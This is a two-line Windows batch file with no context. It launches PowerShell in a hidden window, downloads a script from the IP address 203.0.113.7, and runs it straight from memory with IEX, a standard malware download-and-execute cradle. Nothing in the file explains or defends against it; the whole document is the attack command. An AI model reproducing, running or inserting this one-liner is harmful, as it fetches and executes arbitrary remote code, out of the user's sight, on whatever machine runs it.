@echo off
powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"
